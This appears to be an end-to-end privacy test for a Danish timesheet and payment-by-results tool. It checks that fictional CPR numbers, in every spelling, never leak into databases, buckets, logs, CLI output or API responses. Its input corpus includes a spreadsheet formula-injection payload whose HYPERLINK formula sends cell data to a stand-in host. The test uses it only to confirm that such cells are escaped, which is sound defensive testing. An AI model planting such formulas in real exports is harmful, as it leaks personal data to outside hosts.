import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { GetObjectCommand, ListObjectsV2Command, PutObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import { ScanCommand } from '@aws-sdk/lib-dynamodb';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDocumentClient, createS3Client } from '../../shared/adapters/aws-clients.ts';
import { keyDigest } from '../../shared/uploads/rejected-upload.ts';
import { createPseudonymiser } from '../../shared/cpr-numbers.ts';
import { cprsIn, leaksIn, textOfValue } from '../support/leak-scan.ts';
import { runPbr, startStackProcess, TEST_PSEUDONYM_KEY, type StackProcess } from '../support/pbr-process.ts';

/*
 * Issue 7 / spec 2.4, end to end on the local stack: an adversarial corpus puts
 * fictional CPR numbers, in every spelling, into every column, file names,
 * partnership ids and API paths, through `pbr` and straight into the bucket;
 * then every output is scanned (normalised, separators removed) for any of them.
 */

/** One fictional CPR number per way of writing or placing it, so a leak names its way in. */
const CPR = {
  tenDigits: '311299-7822', dashed: '241085-1357', nineDigits: '070893-2468', enDash: '150376-8642',
  spacedEnDash: '290481-9753', noBreakSpace: '130562-4817', dots: '310178-6429', dashes: '190287-3581',
  fullWidth: '280994-7136', lineBreak: '121166-5293', embedded: '040359-8174', activity: '260771-3948',
  hours: '170683-2759', organisation: '091192-6385', date: '220364-1896', fileName: '051274-9362',
  fileNameFullWidth: '140585-2613', partnershipKey: '300691-4728', cliFileName: '081153-6947',
  cliPartnership: '200877-5134', header: '230785-1642', rosterPartnership: '180996-2471', apiPath: '061190-4385',
  apiSource: '271148-3319', xlsxNumber: '310588-2941', xlsxNineDigits: '020370-5816', windows1252: '161248-7390',
  hoursFileName: '270195-4062', rosterKey: '130399-5527', scenario: '250652-8813', longValue: '100457-3826',
} as const;
const ALL = Object.values(CPR);
const digits = (cpr: string) => cpr.replace('-', '');
const fullWidth = (text: string) => text.replace(/\d/g, (d) => String.fromCharCode(0xff10 + Number(d)));

/** Spellings that are a CPR number alone: each must be pseudonymised like its 10 digits. */
const ALONE: [keyof typeof CPR, string][] = [
  ['tenDigits', digits(CPR.tenDigits)],
  ['dashed', CPR.dashed],
  ['nineDigits', digits(CPR.nineDigits).slice(1)],
  ['enDash', CPR.enDash.replace('-', '\u2013')],
  ['spacedEnDash', CPR.spacedEnDash.replace('-', ' \u2013 ')],
  ['noBreakSpace', CPR.noBreakSpace.replace('-', '\u00a0')],
  ['dots', '31.01.78.6429'],
  ['dashes', '19-02-87-3581'],
  ['fullWidth', fullWidth(digits(CPR.fullWidth))],
  ['lineBreak', CPR.lineBreak.replace('-', '\n')],
];
const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', '-x', '@SUM(A1:A2)', '+1'];
const pseudonym = createPseudonymiser(TEST_PSEUDONYM_KEY);

const csvField = (value: string) => (/[",\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
const timesheet = [
  'participant,date,hours,activity,organisation',
  ...[...ALONE.map(([, spelling]) => spelling), ...FORMULAS].map((p, i) => `${csvField(p)},2024-03-0${4 + (i % 5)},12,ordinary,Jobvejen`),
  `Hansen ${CPR.embedded},2024-03-05,4,training,Jobvejen`,
  `P-1,2024-03-05,4,${CPR.activity},Jobvejen`,
  `P-2,2024-03-05,${digits(CPR.hours)},training,Jobvejen`,
  `P-3,2024-03-05,4,training,Firma ${CPR.organisation}`,
  `P-4,22.03.64.1896,4,training,Jobvejen`,
  `${'Z'.repeat(990)} ${CPR.longValue},2024-03-05,4,training,Jobvejen`,
].join('\n') + '\n';

const contract = {
  partnership: 'leaks', name: 'Vækstpartnerskab Lækby', municipality: 'Lækby', start: '2024-01-01', end: '2024-12-31',
  programmeFee: 10000, cap: 1000000, maxPerParticipant: 50000, deadweight: 0.25,
  outcomes: [{ id: 'job_start', rule: 'first_week', activities: ['ordinary'], minHours: 10, price: 15000 }],
  benefit: { weeklyRate: 2900, hourlyWage: 150, disregardPerHour: 30, educationOffBenefitHours: 15, priorWeeksOnBenefit: 104, refusion: [{ fromWeek: 1, rate: 0.2 }], municipalCostPerHour: {} },
};
const roster = ['deltager,partnerskab,visitationsdato', `${digits(CPR.tenDigits)},leaks,2024-03-01`, `${CPR.noBreakSpace.replace('-', '\u00a0')},leaks,2024-03-01`, `${fullWidth(CPR.dashed)},leaks,2024-03-01`, '@SUM(A1:A2),leaks,2024-03-01'].join('\n') + '\n';
const badRoster = `deltager,partnerskab,visitationsdato\nP-1 ${CPR.rosterPartnership},leaks,2024-03-01\nP-2,${digits(CPR.rosterPartnership)},2024-03-01\n`;

let stack: StackProcess;
let dir: string;
let s3: S3Client;
/** Every upload that reached the bucket, in order: each must end with a status. */
const uploads: { key: string; started: string }[] = [];
/** Everything `pbr` printed and the API answered: name → text. */
const outputs: [string, string][] = [];
const api: Record<string, { status: number; body: string }> = {};

/** Commands that read files only (no stack, so no --data). */
const FILES_ONLY = new Set(['hours', 'simulate']);

async function pbr(...args: string[]) {
  const result = await runPbr(FILES_ONLY.has(args[0]!) ? args : [...args, '--data', stack.dataDir], { STATEMENT_RUNS: '50' });
  outputs.push([`pbr ${args[0]} (stdout)`, result.stdout], [`pbr ${args[0]} (stderr)`, result.stderr]);
  return result;
}

async function write(name: string, content: string | Buffer): Promise<string> {
  const path = join(dir, name);
  await mkdir(join(path, '..'), { recursive: true });
  await writeFile(path, content);
  return path;
}

async function cliUpload(key: string, ...args: string[]) {
  uploads.push({ key, started: new Date().toISOString() });
  return pbr(...args);
}

/** An upload straight to the bucket with the SDK, past every check of the CLI. */
async function put(key: string, body: string) {
  uploads.push({ key, started: new Date().toISOString() });
  await s3.send(new PutObjectCommand({ Bucket: stack.endpoints.bucket, Key: key, Body: body }));
}

async function call(name: string, path: string, token: string, init: RequestInit = {}) {
  const headers = new Headers(init.headers);
  headers.set('authorization', `Bearer ${token}`);
  const response = await fetch(`${stack.endpoints.api}${path}`, { ...init, headers });
  const body = await response.text();
  api[name] = { status: response.status, body };
  outputs.push([`API ${name} (${response.status})`, `${[...response.headers].map(([k, v]) => `${k}: ${v}`).join('\n')}\n\n${body}`]);
  return api[name];
}

async function scanTable(): Promise<Record<string, unknown>[]> {
  const items: Record<string, unknown>[] = [];
  let ExclusiveStartKey: Record<string, unknown> | undefined;
  do {
    const page = await createDocumentClient().send(new ScanCommand({ TableName: stack.endpoints.table, ExclusiveStartKey }));
    items.push(...(page.Items ?? []));
    ExclusiveStartKey = page.LastEvaluatedKey;
  } while (ExclusiveStartKey);
  return items;
}

/**
 * Uploads without a status. A status names the key (valid keys) or its digest
 * (refused keys) and was processed after the upload began; a key uploaded n times
 * from some point on needs n distinct versions processed after that point.
 */
function missingStatuses(items: Record<string, unknown>[]): string[] {
  const statuses = items.filter((item) => typeof item.outcome === 'string' && typeof item.processedAt === 'string');
  return uploads
    .filter(({ key, started }, i) => {
      const versions = new Set(statuses.filter((s) => (s.key === key || s.keyDigest === keyDigest(key)) && String(s.processedAt) >= started).map((s) => String(s.sequencer)));
      return versions.size < uploads.slice(i).filter((upload) => upload.key === key).length;
    })
    .map(({ key }) => (cprsIn(key, ALL).length > 0 ? `a key with a CPR number (digest ${keyDigest(key)})` : key));
}

/** Every S3 object, key and body: the raw uploads (reports/, rosters/, contracts/) apart from the outputs. */
async function bucketObjects(): Promise<{ raw: [string, string][]; outputs: [string, string][] }> {
  const found = { raw: [] as [string, string][], outputs: [] as [string, string][] };
  let ContinuationToken: string | undefined;
  do {
    const page = await s3.send(new ListObjectsV2Command({ Bucket: stack.endpoints.bucket, ContinuationToken }));
    for (const { Key } of page.Contents ?? []) {
      const object = await s3.send(new GetObjectCommand({ Bucket: stack.endpoints.bucket, Key }));
      const text = `${Key}\n${textOfValue(await object.Body!.transformToByteArray())}`;
      (/^(reports|rosters|contracts)\//.test(Key!) ? found.raw : found.outputs).push([`s3 ${Key}`, text]);
    }
    ContinuationToken = page.NextContinuationToken;
  } while (ContinuationToken);
  return found;
}

let table: Record<string, unknown>[] = [];

beforeAll(async () => {
  stack = await startStackProcess();
  s3 = createS3Client();
  dir = await mkdtemp(join(tmpdir(), 'pbr-leaks-'));

  // Inputs through the CLI: contract, a roster the CLI refuses, then a good roster with CPR spellings.
  await pbr('upload-contract', await write('leaks.json', JSON.stringify(contract)));
  await pbr('upload-roster', await write('bad-roster.csv', badRoster), '--partnership', 'leaks');
  await put('rosters/leaks.csv', badRoster); // the pipeline's check of the same roster
  await cliUpload('rosters/leaks.csv', 'upload-roster', await write('roster.csv', roster), '--partnership', 'leaks');

  // Timesheets through the CLI: CSV, XLSX, Windows-1252, a header with a CPR number.
  const main = await write('2024-03/actor.csv', timesheet);
  await cliUpload('reports/leaks/2024-03/actor.csv', 'upload', main, '--partnership', 'leaks', '--month', '2024-03', '--source', 'actor');
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Timer');
  sheet.addRows([['Borger', 'Dato', 'Timer', 'Type'], [Number(digits(CPR.xlsxNumber)), new Date('2024-03-04T00:00:00Z'), 12, 'løn'], [Number(digits(CPR.xlsxNineDigits)), new Date('2024-03-05T00:00:00Z'), 12, 'løn']]);
  const xlsx = join(dir, '2024-03/company.xlsx');
  await workbook.xlsx.writeFile(xlsx);
  // The others without waiting (pbr reports prints their statuses below), so a stalled ingest cannot stall the test.
  await cliUpload('reports/leaks/2024-03/company.xlsx', 'upload', xlsx, '--partnership', 'leaks', '--month', '2024-03', '--source', 'company', '--no-wait');
  const latin = await write('2024-03/kommune.csv', Buffer.from(`Deltager;Dato;Timer;Aktivitet;Aktør\n${CPR.windows1252.replace('-', '\u00a0')};04-03-2024;12;løn;Køge Rør\n`, 'latin1'));
  await cliUpload('reports/leaks/2024-03/kommune.csv', 'upload', latin, '--partnership', 'leaks', '--month', '2024-03', '--source', 'kommune', '--no-wait');
  const header = await write('2024-03/header.csv', `deltager,dato,timer,${digits(CPR.header)}\nP-9,2024-03-04,1,training\n`);
  await cliUpload('reports/leaks/2024-03/header.csv', 'upload', header, '--partnership', 'leaks', '--month', '2024-03', '--source', 'header', '--no-wait');

  // What the CLI must refuse before uploading: a CPR number as the file name (the source) or the partnership.
  await pbr('upload', await write(`2024-03/${CPR.cliFileName.replace('-', ' ')}.csv`, timesheet), '--partnership', 'leaks', '--month', '2024-03');
  await pbr('upload', main, '--partnership', CPR.cliPartnership, '--month', '2024-03', '--source', 'actor');

  // Straight into the bucket: CPR numbers as file names and as the partnership id.
  await put(`reports/leaks/2024-03/${CPR.fileName}.csv`, timesheet);
  await put(`reports/leaks/2024-03/${fullWidth(CPR.fileNameFullWidth.slice(0, 6))}\u2013${CPR.fileNameFullWidth.slice(7)}.csv`, timesheet);
  await put(`reports/${digits(CPR.partnershipKey)}/2024-03/actor.csv`, timesheet);
  await put(`rosters/${digits(CPR.rosterKey)}.csv`, roster);

  // No AWS: pbr hours (also a file named by a CPR number) and pbr simulate.
  const hoursFile = await write(`2024-03/${CPR.hoursFileName}.csv`, timesheet);
  const local = await pbr('hours', '--month', '2024-03', main, xlsx, latin, header, hoursFile);
  expect([local.code, local.stdout]).toEqual([2, expect.stringContaining(`\n${pseudonym(CPR.tenDigits)},2024-W10,`)]);
  for (const format of ['csv', 'text', 'json']) {
    const simulated = await pbr('simulate', '--contract', join(dir, 'leaks.json'), '--as-of', '2024-03', '--roster', join(dir, 'roster.csv'), '--runs', '20', '--format', format, main, xlsx, latin);
    expect(simulated.code, simulated.stderr).toBe(0);
  }

  // Wait for the uploads' statuses (at most a minute), then publish the statements.
  for (let deadline = Date.now() + 60_000; Date.now() < deadline && missingStatuses(await scanTable()).length > 0; ) await new Promise((r) => setTimeout(r, 500));
  await pbr('recalc', '--as-of', '2024-03');
  await pbr('export-hours', '--partnership', 'leaks');
  await pbr('reports', '--partnership', 'leaks');
  await pbr('reports', '--partnership', 'leaks', '--json');
  for (const format of ['csv', 'text', 'json']) await pbr('statement', '--partnership', 'leaks', '--month', '2024-03', '--format', format);

  // The API, as the project holder and as the municipality.
  const holder = (await pbr('token', '--role', 'holder')).stdout.trim();
  const municipality = (await pbr('token', '--role', 'municipality', '--municipality', 'Lækby')).stdout.trim();
  await call('partnerships', '/partnerships', holder);
  await call('statements', '/partnerships/leaks/statements', municipality);
  await call('statement', '/partnerships/leaks/statements/2024-03', municipality);
  await call('statement csv', '/partnerships/leaks/statements/2024-03', municipality, { headers: { accept: 'text/csv' } });
  await call('hours', '/partnerships/leaks/hours', holder);
  await call('reports', '/partnerships/leaks/reports', holder);
  const spelled = [digits(CPR.apiPath), CPR.apiPath, CPR.apiPath.replace('-', '\u2013'), fullWidth(CPR.apiPath)].map(encodeURIComponent);
  for (const [i, id] of spelled.entries()) {
    await call(`reports of a CPR id ${i}`, `/partnerships/${id}/reports`, holder);
    await call(`statement of a CPR month ${i}`, `/partnerships/leaks/statements/${id}`, holder);
    await call(`unknown path ${i}`, `/${id}`, holder);
  }
  const post = (body: unknown): RequestInit => ({ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
  await call('upload with a CPR source', '/partnerships/leaks/uploads', holder, post({ month: '2024-03', source: CPR.apiSource, format: 'csv' }));
  await call('upload with a CPR month', '/partnerships/leaks/uploads', holder, post({ month: digits(CPR.apiSource), source: 'actor', format: 'csv' }));
  await call('scenario with a CPR path', '/partnerships/leaks/scenarios', municipality, post({ set: { [digits(CPR.scenario)]: 1 }, runs: 10 }));
  await call('scenario with a CPR value', '/partnerships/leaks/scenarios', municipality, post({ set: { name: CPR.scenario }, runs: 10 }));
  table = await scanTable();
}, 600_000);

afterAll(async () => {
  await stack?.stop();
});

describe('the corpus is read right', () => {
  it('every upload to the bucket got a status (none missing)', () => {
    expect(missingStatuses(table)).toEqual([]);
  });

  it('every spelling of a CPR number alone became the pseudonym of its 10 digits', () => {
    const exported = outputs.find(([name]) => name === 'pbr export-hours (stdout)')![1];
    const expected = [...ALONE.map(([name]) => CPR[name]), CPR.xlsxNumber, CPR.xlsxNineDigits, CPR.windows1252].map((cpr) => ({ cpr, pseudonym: pseudonym(cpr) }));
    expect(expected.filter(({ pseudonym: p }) => !exported.includes(`\n${p},2024-W10,`)).map(({ cpr }) => cpr)).toEqual([]);
  });

  it('formula-like participants are escaped in the exported hours and the statement CSV (spec 2.4)', () => {
    const exported = outputs.find(([name]) => name === 'pbr export-hours (stdout)')![1];
    const simulatedCsv = outputs.find(([name]) => name === 'pbr simulate (stdout)')![1];
    const statementCsv = api['statement csv']!;
    expect(statementCsv.status).toBe(200);
    for (const formula of FORMULAS) {
      const cell = formula.includes('"') ? `"'${formula.replaceAll('"', '""')}"` : `'${formula}`;
      expect(exported).toContain(`\n${cell},2024-W10,`);
      expect(statementCsv.body).toContain(`,2024-W10,${cell},15000.00\n`);
      expect(simulatedCsv).toContain(`,2024-W10,${cell},15000.00\n`);
    }
  });
});

describe('no CPR number in any spelling reaches an output (spec 2.4)', () => {
  it('DynamoDB: every item, keys and attributes, statements gunzipped', () => {
    expect(table.some((item) => String(item.sk).startsWith('STATEMENT#'))).toBe(true);
    expect(leaksIn(table.map((item) => [`dynamodb ${textOfValue(item.pk)} ${textOfValue(item.sk)}`, textOfValue(item)]), ALL)).toEqual([]);
  });

  it('S3: every object outside the raw uploads (results/, statements/), keys and bodies', async () => {
    const { raw, outputs: objects } = await bucketObjects();
    expect(objects.some(([name]) => name.startsWith('s3 statements/leaks/2024-03.csv'))).toBe(true);
    // the raw uploads hold CPR numbers by nature: the scan sees every spelling there
    const seen = new Set(leaksIn(raw, ALL).flatMap((leak) => leak.what));
    expect(ALONE.filter(([name]) => !seen.has(CPR[name]))).toEqual([]);
    expect(leaksIn(objects, ALL)).toEqual([]);
  });

  it('the local stack’s logs', () => {
    expect(stack.output()).toContain('report accepted');
    expect(leaksIn([['stack output', stack.output()]], ALL)).toEqual([]);
  });

  it('the CLI’s stdout and stderr', () => {
    expect(leaksIn(outputs.filter(([name]) => name.startsWith('pbr ')), ALL)).toEqual([]);
  });

  it('the API’s answers, headers and bodies', () => {
    expect(api.statement!.status).toBe(200);
    expect(api.hours!.body).toContain('px_');
    expect(leaksIn(outputs.filter(([name]) => name.startsWith('API ')), ALL)).toEqual([]);
  });
});
